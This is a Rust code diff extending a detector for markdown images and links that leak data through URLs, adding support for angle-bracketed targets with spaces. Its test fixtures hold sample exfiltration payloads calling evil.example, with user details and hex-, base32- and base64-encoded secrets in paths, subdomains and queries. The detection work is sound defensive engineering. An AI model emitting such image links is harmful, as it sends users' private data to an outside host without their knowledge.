@@ -46,6 +46,7 @@ static META: Meta = Meta {
         "see https://evil.example/pixel.gif?u=alice%40example.com for it",
         "![a [nested] title](//evil.example/737570657220736563726574206973206f75742e/p.png)",
         "![](https://ON2XAZLSEBZWKY3SMV2CA4DBONZXO33SMQ.evil.example/p.png)",
+        "![x](<https://evil.example/p.png?q=the user lives in Springfield>)",
         "<https://evil.example/?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU>",
     ],
     passes: &[
@@ -98,7 +99,8 @@ impl Detector for DataLink {
             let start = if hit.literal < 2 { hit.start } else { hit.end - 2 };
             let position = position(bytes, start);
             let mut cursor = Cursor::new(bytes, start, MAX_URL_BYTES);
-            let url = read(&mut cursor, position);
+            let bracketed = before(bytes, start, 1) == b"<";
+            let url = read(&mut cursor, position, bracketed);
             let score = score(url, position);
             if cursor.starved() {
                 findings.undecided(start);
@@ -146,12 +148,15 @@ fn is_image(bytes: &[u8], close: usize) -> bool {
 }
 
 /// Takes the URL, as far as its position lets it go.
-fn read<'a>(cursor: &mut Cursor<'a>, position: Position) -> &'a [u8] {
+fn read<'a>(cursor: &mut Cursor<'a>, position: Position, bracketed: bool) -> &'a [u8] {
     let start = cursor.at();
     let inside = matches!(position, Position::Image | Position::Link);
     let mut depth = 0;
     while let Some(byte) = cursor.peek() {
         let end = match byte {
+            // In angle brackets a target may hold blanks and lone parentheses.
+            b'>' if inside && bracketed => !slot_closes(cursor.since(start)),
+            _ if inside && bracketed => matches!(byte, b'\n' | b'\r'),
             b'(' if inside => {
                 depth += 1;
                 false
